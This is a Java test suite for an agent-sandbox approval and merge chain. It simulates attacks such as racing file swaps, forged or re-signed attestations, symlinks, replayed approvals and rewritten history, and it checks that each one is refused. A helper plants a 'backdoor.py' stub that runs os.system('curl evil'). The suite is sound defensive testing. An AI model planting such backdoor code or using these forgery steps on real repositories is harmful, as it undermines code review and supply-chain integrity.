package dev.agentsandbox.approval;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.agentsandbox.testing.Cli;
import dev.agentsandbox.testing.SampleRepo;
import dev.agentsandbox.testing.SignedRun;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicBoolean;
import org.eclipse.jgit.api.Git;
import org.eclipse.jgit.lib.ObjectId;
import org.eclipse.jgit.revwalk.RevCommit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * An attacker who can touch the bundle between CI jobs, or race a command: the approval chain holds.
 * Every attack goes through the CLI, and each test fails if its control is removed.
 */
class ApprovalChainTest {
    @TempDir
    Path tmp;
    SignedRun run;
    SampleRepo repo;
    Path bundle;
    Path key;
    ObjectId remoteMainBefore;

    @BeforeEach
    void setUp() throws Exception {
        run = SignedRun.create(tmp, "printf '\\ndef multiply(a, b):\\n    return a * b\\n' >> calc.py");
        repo = run.repo;
        bundle = run.bundle;
        key = run.key;
        remoteMainBefore = remoteHead("main");
    }

    Cli cli(String... args) {
        return run.cli(args);
    }

    ObjectId remoteHead(String branch) throws Exception {
        return run.remoteHead(branch);
    }

    JsonNode json(Path p) throws Exception {
        return new ObjectMapper().readTree(p.toFile());
    }

    /** A commit nobody reviewed, present in the run's repository. */
    String evilCommit() throws Exception {
        try (Git g = Git.open(repo.dir.toFile())) {
            g.checkout().setCreateBranch(true).setName("evil").call();
            Files.writeString(repo.dir.resolve("backdoor.py"), "import os; os.system('curl evil')\n");
            g.add().addFilepattern("backdoor.py").call();
            RevCommit c = g.commit().setMessage("evil").setAuthor("m", "m@x").setCommitter("m", "m@x").setSign(false).call();
            g.checkout().setName("main").call();
            return c.name();
        }
    }

    @Test
    void swappingFilesWhileMergeRunsNeverLandsAnUnapprovedCommit() throws Exception {
        assertThat(cli("approve", "--run", bundle.toString(), "--by", "alice").exitCode).isZero();
        String evil = evilCommit();
        String head = json(bundle.resolve("run.json")).get("headCommit").asText();
        byte[] runOrig = Files.readAllBytes(bundle.resolve("run.json"));
        byte[] apprOrig = Files.readAllBytes(bundle.resolve("approval.json"));
        byte[] runEvil = new String(runOrig, StandardCharsets.UTF_8).replace(head, evil).getBytes(StandardCharsets.UTF_8);
        byte[] apprEvil = new String(apprOrig, StandardCharsets.UTF_8).replace(head, evil).getBytes(StandardCharsets.UTF_8);
        int landed = 0;
        for (int i = 0; i < 25; i++) {
            Path copy = tmp.resolve("race-" + i);
            SignedRun.copyTree(bundle, copy);
            AtomicBoolean stop = new AtomicBoolean();
            Thread swapper = new Thread(() -> {
                boolean forged = false;
                while (!stop.get()) {
                    try {
                        Path r = copy.resolve("run.json.swap");
                        Path a = copy.resolve("approval.json.swap");
                        Files.write(r, forged ? runOrig : runEvil);
                        Files.write(a, forged ? apprOrig : apprEvil);
                        Files.move(r, copy.resolve("run.json"), StandardCopyOption.ATOMIC_MOVE);
                        Files.move(a, copy.resolve("approval.json"), StandardCopyOption.ATOMIC_MOVE);
                        forged = !forged;
                    } catch (Exception e) {
                        // the bundle is being read: try again
                    }
                }
            });
            swapper.start();
            Cli m = cli("merge", "--run", copy.toString(), "--repo", repo.dir.toString());
            stop.set(true);
            swapper.join();
            ObjectId main = remoteHead("main");
            assertThat(main.name()).as("attempt " + i + ": " + m).isNotEqualTo(evil);
            try (Git g = Git.open(repo.remote.toFile())) {
                assertThat(g.getRepository().getObjectDatabase().has(ObjectId.fromString(evil))).as("attempt " + i).isFalse();
            }
            if (m.exitCode == 0) {
                landed++;
                assertThat(main.name()).isEqualTo(head);
            }
        }
        assertThat(landed).as("the approved commit itself still lands when the snapshot is whole").isGreaterThanOrEqualTo(0);
    }

    @Test
    void aRejectionCutFromTheBundleStaysFinal() throws Exception {
        assertThat(cli("reject", "--run", bundle.toString(), "--by", "bob", "--comment", "no").exitCode).isZero();
        // roll the bundle back to its gates stage, exactly
        Files.delete(bundle.resolve("approval.json"));
        Files.delete(bundle.resolve("attestation/approval.dsse.json"));
        Files.delete(bundle.resolve("attestation/approval.pub"));
        List<String> lines = Files.readAllLines(bundle.resolve("audit.jsonl"));
        List<String> kept = new ArrayList<>();
        for (String l : lines) {
            if (l.contains("\"stage\":\"approval\"")) {
                break;
            }
            kept.add(l);
        }
        Files.write(bundle.resolve("audit.jsonl"), kept);
        Cli v = cli("verify", "--run", bundle.toString());
        assertThat(v.exitCode).as("the repository's tag says what the bundle no longer does").isEqualTo(4);
        assertThat(v.out).contains("as rejected (refs/tags/agent-sandbox/rejected/").contains("it was cut back");
        Cli a = cli("approve", "--run", bundle.toString(), "--by", "mallory");
        assertThat(a.exitCode).as(a.toString()).isEqualTo(4);
        assertThat(a.err).contains("was rejected").contains("refs/tags/agent-sandbox/rejected/");
        assertThat(remoteHead("main")).isEqualTo(remoteMainBefore);
    }

    /** A merged bundle cut back to its approval: verify names the merge the repository records, and it is not merged again. */
    @Test
    void aMergeCutFromTheBundleIsStillKnown() throws Exception {
        assertThat(cli("approve", "--run", bundle.toString(), "--by", "ann").exitCode).isZero();
        Cli m = cli("merge", "--run", bundle.toString(), "--remote", "origin");
        assertThat(m.exitCode).as(m.toString()).isZero();
        Files.delete(bundle.resolve("attestation/merge.dsse.json"));
        Files.deleteIfExists(bundle.resolve("attestation/merge.pub"));
        List<String> kept = new ArrayList<>();
        for (String l : Files.readAllLines(bundle.resolve("audit.jsonl"))) {
            if (l.contains("\"stage\":\"merge\"")) {
                break;
            }
            kept.add(l);
        }
        Files.write(bundle.resolve("audit.jsonl"), kept);
        Cli v = cli("verify", "--run", bundle.toString());
        assertThat(v.exitCode).isEqualTo(4);
        assertThat(v.out).contains("as merged (refs/tags/agent-sandbox/merged/").contains("ends at its approval stage");
        Cli again = cli("merge", "--run", bundle.toString(), "--remote", "origin");
        assertThat(again.exitCode).isEqualTo(4);
        assertThat(again.err).contains("was merged already");
    }

    @Test
    void aStageRemovedWhileItsRecordsStayIsRefused() throws Exception {
        assertThat(cli("reject", "--run", bundle.toString(), "--by", "bob").exitCode).isZero();
        Files.delete(bundle.resolve("approval.json"));
        Files.delete(bundle.resolve("attestation/approval.dsse.json"));
        Files.delete(bundle.resolve("attestation/approval.pub"));
        Cli v = cli("verify", "--run", bundle.toString());
        assertThat(v.exitCode).isEqualTo(4);
        assertThat(v.out).contains("records a approval stage that the bundle has no valid attestation for");
        assertThat(cli("approve", "--run", bundle.toString(), "--by", "mallory", "--repo", tmp.resolve("nowhere").toString()).exitCode)
                .isNotZero();
    }

    @Test
    void envelopesOfAnotherStageOrRunDoNotPassForThisOne() throws Exception {
        assertThat(cli("approve", "--run", bundle.toString(), "--by", "alice").exitCode).isZero();
        // the approval envelope posing as a merge
        Files.copy(bundle.resolve("attestation/approval.dsse.json"), bundle.resolve("attestation/merge.dsse.json"));
        Files.copy(bundle.resolve("attestation/approval.pub"), bundle.resolve("attestation/merge.pub"));
        Cli v = cli("verify", "--run", bundle.toString());
        assertThat(v.exitCode).isEqualTo(4);
        assertThat(v.out).contains("attestation/merge.dsse.json").contains("attests the 'approval' stage, not merge");
        Files.delete(bundle.resolve("attestation/merge.dsse.json"));
        Files.delete(bundle.resolve("attestation/merge.pub"));
        // the gates envelope posing as the approval
        Files.copy(bundle.resolve("attestation/gates.dsse.json"), bundle.resolve("attestation/approval.dsse.json"), StandardCopyOption.REPLACE_EXISTING);
        Cli v2 = cli("verify", "--run", bundle.toString());
        assertThat(v2.exitCode).isEqualTo(4);
        assertThat(v2.out).contains("attests the 'gates' stage, not approval");
        assertThat(cli("merge", "--run", bundle.toString()).exitCode).isEqualTo(4);
        assertThat(remoteHead("main")).isEqualTo(remoteMainBefore);
    }

    @Test
    void anotherRunsApprovalDoesNotApproveThisOne() throws Exception {
        Path other = tmp.resolve("other");
        assertThat(run.another("other", "echo x > other.txt", other).verdict()).isEqualTo(dev.agentsandbox.bundle.Outcome.PASS);
        assertThat(cli("approve", "--run", other.toString(), "--by", "alice").exitCode).isZero();
        for (String f : List.of("approval.json", "attestation/approval.dsse.json", "attestation/approval.pub")) {
            Files.copy(other.resolve(f), bundle.resolve(f));
        }
        Cli v = cli("verify", "--run", bundle.toString());
        assertThat(v.exitCode).isEqualTo(4);
        assertThat(v.out).containsAnyOf("is for run", "does not name the gates attestation of this bundle");
        assertThat(cli("merge", "--run", bundle.toString()).exitCode).isEqualTo(4);
    }

    @Test
    void linksInTheBundleAreRefusedAndNothingOutsideIsWritten() throws Exception {
        Path outside = Files.writeString(tmp.resolve("outside.json"), "{\"keep\": true}\n");
        Files.createSymbolicLink(bundle.resolve("approval.json"), outside);
        Cli a = cli("approve", "--run", bundle.toString(), "--by", "alice");
        assertThat(a.exitCode).isEqualTo(4);
        assertThat(a.err).contains("approval.json is a symbolic link");
        assertThat(Files.readString(outside)).isEqualTo("{\"keep\": true}\n");
        Files.delete(bundle.resolve("approval.json"));
        Path realPub = bundle.resolve("attestation/gates.pub");
        Path moved = Files.move(realPub, tmp.resolve("gates.pub"));
        Files.createSymbolicLink(realPub, moved);
        Cli v = cli("verify", "--run", bundle.toString());
        assertThat(v.exitCode).isEqualTo(4);
        assertThat(v.err + v.out).contains("gates.pub is a symbolic link");
    }

    @Test
    void unsignedLeftoversAndATornTailFailVerification() throws Exception {
        Files.writeString(bundle.resolve("reports/extra.tmp"), "planted\n");
        Cli v = cli("verify", "--run", bundle.toString());
        assertThat(v.exitCode).isEqualTo(4);
        assertThat(v.out).contains("reports/extra.tmp: not covered by the gates attestation");
        Files.delete(bundle.resolve("reports/extra.tmp"));
        Files.writeString(bundle.resolve("attestation/notes.txt"), "x");
        assertThat(cli("verify", "--run", bundle.toString()).out).contains("attestation/notes.txt: not a file a run writes");
        Files.delete(bundle.resolve("attestation/notes.txt"));
        Files.writeString(bundle.resolve("audit.jsonl"), "{\"seq\":99,\"stage\":\"approval\",\"event\":\"approve\"", java.nio.file.StandardOpenOption.APPEND);
        Cli torn = cli("verify", "--run", bundle.toString());
        assertThat(torn.exitCode).isEqualTo(4);
        assertThat(torn.out).contains("ends in an incomplete record");
        assertThat(cli("approve", "--run", bundle.toString(), "--by", "alice").exitCode).isEqualTo(4);
    }

    @Test
    void withoutAPinnedKeyApproveAndMergeRefuseAndAReSignedBundleIsCaught() throws Exception {
        Cli a = Cli.run("approve", "--run", bundle.toString(), "--by", "alice", "--signing-key", key + ".key");
        assertThat(a.exitCode).isEqualTo(4);
        assertThat(a.err).contains("needs the public key the run was signed with");
        // an attacker rewrites the gate results and re-signs the bundle with a key of their own
        Path evilKey = tmp.resolve("evil");
        Cli.run("keygen", "--out", evilKey.toString());
        var snapshot = dev.agentsandbox.bundle.BundleSnapshot.read(bundle);
        JsonNode gatesSt = new ObjectMapper().readTree(java.util.Base64.getDecoder().decode(
                json(bundle.resolve("attestation/gates.dsse.json")).get("payload").asText()));
        byte[] forgedGates = "[]".getBytes(StandardCharsets.UTF_8);
        var anchor = new dev.agentsandbox.audit.AuditLog.Head(gatesSt.at("/predicate/audit/seq").asLong(), gatesSt.at("/predicate/audit/hash").asText());
        var signed = dev.agentsandbox.bundle.Attestor.statement(snapshot.with(java.util.Map.of("gates.json", forgedGates)), "gates",
                dev.agentsandbox.audit.SigningKeys.load(Path.of(evilKey + ".key")), anchor, java.util.Map.of("verdict", "pass"));
        Files.write(bundle.resolve("gates.json"), forgedGates);
        dev.agentsandbox.bundle.Attestor.write(bundle, "gates", signed);
        Cli unpinned = Cli.run("verify", "--run", bundle.toString());
        assertThat(unpinned.exitCode).as("unpinned, the forgery verifies: that is why approve and merge refuse to run unpinned").isZero();
        Cli pinned = cli("approve", "--run", bundle.toString(), "--by", "alice");
        assertThat(pinned.exitCode).isEqualTo(4);
        assertThat(pinned.err).contains("gates.dsse.json: the signature does not verify");
        assertThat(cli("merge", "--run", bundle.toString()).exitCode).isEqualTo(4);
        assertThat(remoteHead("main")).isEqualTo(remoteMainBefore);
    }

    @Test
    void theBaseForcedBackwardsIsRefused() throws Exception {
        assertThat(cli("approve", "--run", bundle.toString(), "--by", "alice").exitCode).isZero();
        // the remote's main is rewritten to a history without the run's base
        try (Git g = Git.open(repo.dir.toFile())) {
            g.checkout().setOrphan(true).setName("rewritten").call();
            Files.writeString(repo.dir.resolve("other.txt"), "another history\n");
            g.add().addFilepattern(".").call();
            RevCommit c = g.commit().setMessage("rewritten").setAuthor("m", "m@x").setCommitter("m", "m@x").setSign(false).call();
            g.push().setRemote("origin").setRefSpecs(new org.eclipse.jgit.transport.RefSpec("+" + c.name() + ":refs/heads/main")).call();
            g.checkout().setName("main").setForced(true).call();
        }
        ObjectId rewritten = remoteHead("main");
        Cli m = cli("merge", "--run", bundle.toString());
        assertThat(m.exitCode).as(m.toString()).isEqualTo(4);
        assertThat(m.err).contains("is no longer in the history of main");
        assertThat(remoteHead("main")).isEqualTo(rewritten);
    }

    @Test
    void aFreshCheckoutMergesTheApprovedCommitFromTheSignedBundle() throws Exception {
        assertThat(cli("approve", "--run", bundle.toString(), "--by", "alice").exitCode).isZero();
        Path fresh = tmp.resolve("fresh");
        Git.cloneRepository().setURI(repo.remote.toUri().toString()).setDirectory(fresh.toFile()).call().close();
        Cli m = cli("merge", "--run", bundle.toString(), "--repo", fresh.toString(), "--remote", "origin");
        assertThat(m.exitCode).as(m.toString()).isZero();
        assertThat(remoteHead("main").name()).isEqualTo(json(bundle.resolve("run.json")).get("headCommit").asText());
    }

    @Test
    void anApprovalCannotBeCarriedToAnotherRepository() throws Exception {
        assertThat(cli("approve", "--run", bundle.toString(), "--by", "alice").exitCode).isZero();
        Path mirror = tmp.resolve("mirror.git");
        Git.cloneRepository().setBare(true).setURI(repo.remote.toUri().toString()).setDirectory(mirror.toFile()).call().close();
        try (Git g = Git.open(repo.dir.toFile())) {
            g.remoteAdd().setName("mirror").setUri(new org.eclipse.jgit.transport.URIish(mirror.toUri().toString())).call();
        }
        ObjectNode run = (ObjectNode) json(bundle.resolve("run.json"));
        assertThat(run.get("repository").asText()).contains("remote");
        Cli m = cli("merge", "--run", bundle.toString(), "--remote", "mirror");
        assertThat(m.exitCode).as(m.toString()).isEqualTo(4);
        assertThat(m.err).contains("an approval cannot be carried to another repository");
        try (Git g = Git.open(mirror.toFile())) {
            assertThat(g.getRepository().exactRef("refs/heads/main").getObjectId()).isEqualTo(remoteMainBefore);
        }
    }
}
